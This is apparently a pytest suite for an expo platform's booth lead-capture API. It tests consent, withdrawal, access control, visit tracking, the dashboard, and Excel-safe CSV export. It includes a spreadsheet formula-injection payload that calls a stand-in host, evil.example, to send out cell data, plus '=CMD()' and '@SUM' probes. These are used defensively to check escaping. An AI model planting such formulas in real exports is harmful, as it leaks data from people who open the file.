"""Leave my card, the booth's leads, visits and the dashboard over a real server, on SQLite and
PostgreSQL: consent is the literal true, a withdrawal is gone from the list, the CSV and the
counts at once, the CSV is Excel's (BOM) and formula-safe, staff of another exhibitor and
attendees are refused and change nothing, a reconnecting page does not count a new visit."""

from __future__ import annotations

import csv
import io
import secrets
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import pytest
from sqlmodel import col, select

from expo.hall.models import ActivityKind, BoothActivity, Lead
from expo.models import Account, Role
from tests.live import LiveServer, Peer, live_server, make_settings, prepare_demo_database
from tests.services import fresh_postgres_database

PASSWORD = "云上贵州-数据之都-2026"  # a fresh account's (the demo's is too common)
EXHIBITOR = "exhibitor@demo.shubo.live"  # staff of exhibitor 1
ORGANIZER = "organizer@demo.shubo.live"
BOOTH = 1
OTHER_BOOTH = 2
EVIL_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.fixture(scope="module", params=["sqlite", "postgres"])
async def hall(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[LiveServer]:
    if request.param == "sqlite":
        url = f"sqlite+aiosqlite:///{tmp_path_factory.mktemp('leads') / 'expo.db'}"
        await prepare_demo_database(url)
        async with live_server(make_settings(url)) as live:
            yield live
    else:
        async with fresh_postgres_database() as url:
            await prepare_demo_database(url)
            async with live_server(make_settings(url)) as live:
                yield live


async def visitor(
    server: LiveServer, name: str = "访客 Visitor", organisation: str = "黔算云 Qiansuan"
) -> tuple[int, str, str]:
    """A fresh attendee: (account id, cookie, email)."""
    email = f"lead-{secrets.token_hex(5)}@example.com"
    body = {
        "email": email,
        "password": PASSWORD,
        "display_name": name,
        "organisation": organisation,
        "title": "CTO",
    }
    async with server.http() as http:
        response = await http.post("/api/accounts", json=body)
    assert response.status_code == 201, response.text
    cookie = f"expo_session={response.cookies['expo_session']}"
    return response.json()["account"]["id"], cookie, email


async def staff_of_other_booth(server: LiveServer) -> str:
    """A staff member of exhibitor 2, signed in."""
    account_id, _, email = await visitor(server, "别家展商 Other staff")
    async with server.services.db() as db:
        account = await db.get(Account, account_id)
        account.role = Role.EXHIBITOR
        account.exhibitor_id = OTHER_BOOTH
        await db.commit()
    return await server.sign_in(email, PASSWORD)


async def call(
    server: LiveServer, method: str, path: str, cookie: str | None, body: Any = None
) -> tuple[int, Any]:
    async with server.http() as http:
        response = await http.request(
            method,
            path,
            json=body,
            headers={"Cookie": cookie} if cookie else {},
        )
    if response.headers.get("content-type", "").startswith("application/json"):
        return response.status_code, response.json()
    return response.status_code, response.content


async def leads_of(server: LiveServer, booth: int = BOOTH, query: str = "") -> dict[str, Any]:
    status, body = await call(
        server, "GET", f"/api/exhibitors/{booth}/leads{query}", await server.sign_in(EXHIBITOR)
    )
    assert status == 200, body
    return body  # type: ignore[no-any-return]


async def csv_rows(server: LiveServer, booth: int = BOOTH) -> tuple[bytes, list[list[str]]]:
    status, body = await call(
        server, "GET", f"/api/exhibitors/{booth}/leads.csv", await server.sign_in(EXHIBITOR)
    )
    assert status == 200, body
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


async def stored(server: LiveServer, account_id: int) -> tuple[int, int]:
    """(leads, lead activity rows) of this visitor at the booth, as the database has them."""
    async with server.services.read() as db:
        leads = (
            await db.execute(
                select(Lead).where(Lead.exhibitor_id == BOOTH, Lead.account_id == account_id)
            )
        ).all()
        rows = (
            await db.execute(
                select(BoothActivity).where(
                    BoothActivity.exhibitor_id == BOOTH,
                    BoothActivity.account_id == account_id,
                    col(BoothActivity.kind) == ActivityKind.LEAD,
                )
            )
        ).all()
    return len(leads), len(rows)


@pytest.mark.parametrize(
    "body",
    [{}, {"consent": False}, {"consent": "true"}, {"consent": 1}, {"consent": None}],
    ids=["missing", "false", "string", "one", "null"],
)
async def test_no_card_without_consent(hall: LiveServer, body: dict[str, Any]):
    account_id, cookie, _ = await visitor(hall)
    status, reply = await call(hall, "POST", f"/api/exhibitors/{BOOTH}/card", cookie, body)
    assert status == 400, reply
    assert reply["error"]["code"] == "lead.consent_required"
    assert await stored(hall, account_id) == (0, 0)
    status, card = await call(hall, "GET", f"/api/exhibitors/{BOOTH}/card", cookie)
    assert status == 200 and card["card"] is None


async def test_a_card_shares_exactly_the_snapshot_once_and_is_announced(hall: LiveServer):
    account_id, cookie, email = await visitor(hall, "张三 Zhang San", "贵州大数据 GZ Data")
    async with hall.connect(await hall.sign_in(EXHIBITOR)) as ws:
        staff = Peer(ws)
        subscribed = await staff.command("subscribe", {"topic": f"booth-staff:{BOOTH}"})
        assert subscribed["type"] == "ok", subscribed
        status, first = await call(
            hall, "POST", f"/api/exhibitors/{BOOTH}/card", cookie, {"consent": True}
        )
        assert status == 201, first
        added = await staff.event("booth.lead_added")
        assert added["data"] == {"id": first["lead_id"], "version": 1}
        # No personal data in the event (the broker's log keeps events for replay).
        assert email not in str(added) and "张三" not in str(added)
    assert first["card"]["shared"] == {
        "name": "张三 Zhang San",
        "organisation": "贵州大数据 GZ Data",
        "title": "CTO",
        "email": email,
    }
    assert first["card"]["source"] == "card"
    status, again = await call(
        hall, "POST", f"/api/exhibitors/{BOOTH}/card", cookie, {"consent": True, "source": "chat"}
    )
    assert status == 200 and again["created"] is False and again["lead_id"] == first["lead_id"]
    assert again["card"]["source"] == "card"  # the first source stays
    assert again["card"]["consented_at"] >= first["card"]["consented_at"]
    assert await stored(hall, account_id) == (1, 1)
    status, mine = await call(hall, "GET", "/api/me/cards", cookie)
    assert status == 200
    assert [c["exhibitor"]["id"] for c in mine["cards"]] == [BOOTH]
    status, card = await call(hall, "GET", f"/api/exhibitors/{BOOTH}/card", cookie)
    assert card["card"]["shared"]["email"] == email
    assert card["would_share"]["email"] == email
    leads = await leads_of(hall, query="?q=Zhang")
    assert [lead["email"] for lead in leads["leads"]] == [email]


async def test_a_bad_source_is_refused_and_changes_nothing(hall: LiveServer):
    account_id, cookie, _ = await visitor(hall)
    status, reply = await call(
        hall, "POST", f"/api/exhibitors/{BOOTH}/card", cookie, {"consent": True, "source": "spam"}
    )
    assert status == 400 and reply["error"]["code"] == "lead.source_unknown"
    assert await stored(hall, account_id) == (0, 0)
    status, reply = await call(
        hall, "POST", "/api/exhibitors/999999/card", cookie, {"consent": True}
    )
    assert status == 404 and reply["error"]["code"] == "exhibitor.unknown"


async def test_a_withdrawal_is_gone_from_the_list_the_csv_and_the_counts_at_once(hall: LiveServer):
    account_id, cookie, email = await visitor(hall, "李四 Li Si")
    status, left = await call(
        hall, "POST", f"/api/exhibitors/{BOOTH}/card", cookie, {"consent": True}
    )
    assert status == 201
    assert email in [
        lead["email"] for lead in (await leads_of(hall, query="?per_page=200"))["leads"]
    ]
    raw, _ = await csv_rows(hall)
    assert email.encode() in raw
    dashboard_before = (
        await call(hall, "GET", f"/api/exhibitors/{BOOTH}/dashboard", await hall.sign_in(EXHIBITOR))
    )[1]
    async with hall.connect(await hall.sign_in(EXHIBITOR)) as ws:
        staff = Peer(ws)
        await staff.command("subscribe", {"topic": f"booth-staff:{BOOTH}"})
        status, gone = await call(hall, "DELETE", f"/api/exhibitors/{BOOTH}/card", cookie)
        assert status == 200 and gone == {"withdrawn": True}
        withdrawn = await staff.event("booth.lead_withdrawn")
        assert withdrawn["data"] == {"id": left["lead_id"]}
    # At once: the very next reads.
    listed = await leads_of(hall, query="?per_page=200")
    assert email not in [lead["email"] for lead in listed["leads"]]
    raw, _ = await csv_rows(hall)
    assert email.encode() not in raw and "李四".encode() not in raw
    assert await stored(hall, account_id) == (0, 0)
    status, dashboard = await call(
        hall, "GET", f"/api/exhibitors/{BOOTH}/dashboard", await hall.sign_in(EXHIBITOR)
    )
    assert dashboard["leads_total"] == dashboard_before["leads_total"] - 1
    status, card = await call(hall, "GET", f"/api/exhibitors/{BOOTH}/card", cookie)
    assert card["card"] is None
    status, again = await call(hall, "DELETE", f"/api/exhibitors/{BOOTH}/card", cookie)
    assert status == 200 and again == {"withdrawn": False}
    status, mine = await call(hall, "GET", "/api/me/cards", cookie)
    assert mine["cards"] == []


async def test_the_csv_is_excels_and_formula_safe(hall: LiveServer):
    _, cookie, email = await visitor(hall, "@SUM(1+1) 王五", EVIL_ORG)
    await call(
        hall,
        "POST",
        f"/api/exhibitors/{BOOTH}/card",
        cookie,
        {"consent": True, "source": "download"},
    )
    raw, rows = await csv_rows(hall)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    assert rows[0] == [
        "consented_at",
        "source",
        "name",
        "organisation",
        "title",
        "email",
        "tags",
        "notes",
    ]
    row = next(r for r in rows[1:] if r[5] == email)
    assert row[1] == "download"
    assert row[2] == "'@SUM(1+1) 王五"
    assert row[3] == "'" + EVIL_ORG
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows[1:] for cell in r)
    assert row[0].endswith("+08:00")  # the expo's time


async def test_staff_notes_and_tags_are_checked_and_filtered(hall: LiveServer):
    _, cookie, email = await visitor(hall, "赵六 Zhao Liu")
    _, left = await call(hall, "POST", f"/api/exhibitors/{BOOTH}/card", cookie, {"consent": True})
    lead_id = left["lead_id"]
    staff = await hall.sign_in(EXHIBITOR)
    unique = f"算力 {secrets.token_hex(3)}"  # (the demo's leads have their own tags)
    path = f"/api/exhibitors/{BOOTH}/leads/{lead_id}"
    status, edited = await call(
        hall,
        "PATCH",
        path,
        staff,
        {"notes": "想要算力报价\n=CMD()", "tags": [" 热 hot ", "热 HOT", unique]},
    )
    assert status == 200, edited
    assert edited["lead"]["tags"] == ["热 hot", unique] and edited["lead"]["version"] == 2
    for body, code in [
        ({"tags": [f"t{i}" for i in range(11)]}, "lead.too_many_tags"),
        ({"tags": ["x" * 31]}, "lead.tag_too_long"),
        ({"notes": "x" * 2001}, "lead.notes_too_long"),
        ({"notes": "ok", "version": 1}, "lead.version_mismatch"),
        ({"notes": "ok", "colour": "red"}, "bad_request"),
    ]:
        status, reply = await call(hall, "PATCH", path, staff, body)
        assert status in (400, 409) and reply["error"]["code"] == code, (body, reply)
    listed = await leads_of(hall, query=f"?tag={quote(unique)}")
    assert [lead["email"] for lead in listed["leads"]] == [email]
    assert listed["leads"][0]["notes"] == "想要算力报价\n=CMD()"  # nothing changed by refusals
    assert (await leads_of(hall, query=f"?tag={quote(unique[:-1])}"))["leads"] == []  # whole tags
    assert email in [x["email"] for x in (await leads_of(hall, query="?source=card"))["leads"]]
    assert email not in [x["email"] for x in (await leads_of(hall, query="?source=chat"))["leads"]]
    _, rows = await csv_rows(hall)
    row = next(r for r in rows[1:] if r[5] == email)
    assert row[6] == f"热 hot; {unique}" and row[7] == "想要算力报价\n=CMD()"
    page = await leads_of(hall, query="?per_page=1&page=1")
    assert len(page["leads"]) == 1 and page["total"] >= 2
    newest = page["leads"][0]
    second = (await leads_of(hall, query="?per_page=1&page=2"))["leads"][0]
    assert newest["consented_at"] >= second["consented_at"]


async def test_others_are_refused_and_change_nothing(hall: LiveServer):
    _, cookie, email = await visitor(hall, "钱七 Qian Qi")
    _, left = await call(hall, "POST", f"/api/exhibitors/{BOOTH}/card", cookie, {"consent": True})
    lead_id = left["lead_id"]
    other = await staff_of_other_booth(hall)
    for who in (other, cookie):
        for method, path, body in [
            ("GET", f"/api/exhibitors/{BOOTH}/leads", None),
            ("GET", f"/api/exhibitors/{BOOTH}/leads.csv", None),
            ("GET", f"/api/exhibitors/{BOOTH}/dashboard", None),
            ("PATCH", f"/api/exhibitors/{BOOTH}/leads/{lead_id}", {"notes": "偷看 peek"}),
        ]:
            status, reply = await call(hall, method, path, who, body)
            assert status == 403, (method, path, reply)
            assert reply["error"]["code"] == "forbidden"
    # Staff of exhibitor 2 naming the lead of exhibitor 1 under their own booth: not found.
    status, reply = await call(
        hall, "PATCH", f"/api/exhibitors/{OTHER_BOOTH}/leads/{lead_id}", other, {"notes": "x"}
    )
    assert status == 404 and reply["error"]["code"] == "lead.unknown"
    organiser = await hall.sign_in(ORGANIZER)
    status, reply = await call(
        hall, "PATCH", f"/api/exhibitors/{OTHER_BOOTH}/leads/{lead_id}", organiser, {"tags": ["x"]}
    )
    assert status == 404
    async with hall.connect(other) as ws:
        reply = await Peer(ws).command("subscribe", {"topic": f"booth-staff:{BOOTH}"})
        assert reply["type"] == "error" and reply["error"]["code"] == "forbidden"
    lead = next(
        x for x in (await leads_of(hall, query="?per_page=200"))["leads"] if x["id"] == lead_id
    )
    assert lead["notes"] == "" and lead["tags"] == [] and lead["version"] == 1
    status, theirs = await call(hall, "GET", f"/api/exhibitors/{OTHER_BOOTH}/leads", other)
    assert status == 200 and all(x["email"] != email for x in theirs["leads"])
    status, _ = await call(hall, "GET", f"/api/exhibitors/{BOOTH}/leads", None)
    assert status == 401
    # Staff do not leave their card at their own booth.
    status, reply = await call(
        hall, "POST", f"/api/exhibitors/{OTHER_BOOTH}/card", other, {"consent": True}
    )
    assert status == 400 and reply["error"]["code"] == "lead.own_booth"


async def visits_at(server: LiveServer) -> list[BoothActivity]:
    async with server.services.read() as db:
        rows = await db.execute(
            select(BoothActivity).where(
                BoothActivity.exhibitor_id == BOOTH, col(BoothActivity.kind) == ActivityKind.VISIT
            )
        )
        return list(rows.scalars().all())


async def test_a_visit_resumes_after_a_reconnect_and_records_its_dwell_time(hall: LiveServer):
    account_id, cookie, _ = await visitor(hall)
    before = len(await visits_at(hall))
    async with hall.connect(cookie) as ws:
        started = await Peer(ws).command("booth.visit", {"exhibitor": BOOTH})
    assert started["type"] == "ok" and started["data"]["resumed"] is False
    token = started["data"]["visit"]
    async with hall.connect(cookie) as ws:  # the page reconnects (maybe to another process)
        page = Peer(ws)
        resumed = await page.command("booth.visit", {"exhibitor": BOOTH, "visit": token})
        assert resumed["data"]["resumed"] is True and resumed["data"]["visit"] == token
        # Someone else's token (or a forged one) resumes nothing: it starts a visit of one's own.
        _, other_cookie, _ = await visitor(hall)
        async with hall.connect(other_cookie) as other_ws:
            stolen = await Peer(other_ws).command(
                "booth.visit", {"exhibitor": BOOTH, "visit": token}
            )
            assert stolen["data"]["resumed"] is False
            refused = await Peer(other_ws).command(
                "booth.leave", {"exhibitor": BOOTH, "visit": token}
            )
            assert refused["error"]["code"] == "visit.unknown"
        async with hall.services.db() as db:  # the visit began a while ago
            row = (await visits_at(hall))[before]
            stored_row = await db.get(BoothActivity, row.id)
            stored_row.at = stored_row.at - timedelta(seconds=95)
            await db.commit()
        left = await page.command("booth.leave", {"exhibitor": BOOTH, "visit": token})
        assert left["type"] == "ok" and 95 <= left["data"]["seconds"] <= 100
        wrong_booth = await page.command("booth.leave", {"exhibitor": OTHER_BOOTH, "visit": token})
        assert wrong_booth["error"]["code"] == "visit.unknown"
    rows = await visits_at(hall)
    assert len(rows) == before + 2  # this visit once, and the other visitor's own
    mine = [r for r in rows if r.account_id == account_id]
    assert len(mine) == 1 and 95 <= (mine[0].seconds or 0) <= 100
    async with hall.connect() as ws:  # anonymous: a visit, not a unique visitor
        anonymous = await Peer(ws).command("booth.visit", {"exhibitor": BOOTH})
        assert anonymous["type"] == "ok"
    assert [r.account_id for r in await visits_at(hall)][-1] is None
    async with hall.connect(cookie) as ws:
        unknown = await Peer(ws).command("booth.visit", {"exhibitor": 999999})
        assert unknown["error"]["code"] == "exhibitor.unknown"


async def test_the_dashboard_counts_and_is_pushed_to_staff_when_it_changes(hall: LiveServer):
    staff_cookie = await hall.sign_in(EXHIBITOR)
    _, before = await call(hall, "GET", f"/api/exhibitors/{BOOTH}/dashboard", staff_cookie)
    assert len(before["hours"]) == 24 and before["private_chats_waiting"] == 0
    account_id, cookie, _ = await visitor(hall)
    async with hall.connect(staff_cookie) as ws, hall.connect(cookie) as visitor_ws:
        staff = Peer(ws)
        await staff.command("subscribe", {"topic": f"booth-staff:{BOOTH}"})
        page = Peer(visitor_ws)
        await page.command("subscribe", {"topic": f"booth:{BOOTH}"})
        await page.command("booth.visit", {"exhibitor": BOOTH})
        await call(hall, "POST", f"/api/exhibitors/{BOOTH}/card", cookie, {"consent": True})
        seen: dict[str, Any] = {}
        for _ in range(20):
            seen = (await staff.event("booth.dashboard", timeout=5))["data"]
            if (
                seen["visits_today"] == before["visits_today"] + 1
                and seen["leads_total"] == before["leads_total"] + 1
                and seen["visitors_now"] >= 1
            ):
                break
        else:
            raise AssertionError(f"the dashboard never showed the visit and the lead: {seen}")
    assert seen["unique_today"] >= 1 and sum(seen["hours"]) == seen["visits_today"]
    assert seen["leads_today"] >= 1
    _, after = await call(hall, "GET", f"/api/exhibitors/{BOOTH}/dashboard", staff_cookie)
    assert {k: v for k, v in after.items() if k not in ("visitors_now", "name")} == {
        k: v for k, v in seen.items() if k != "visitors_now"
    }
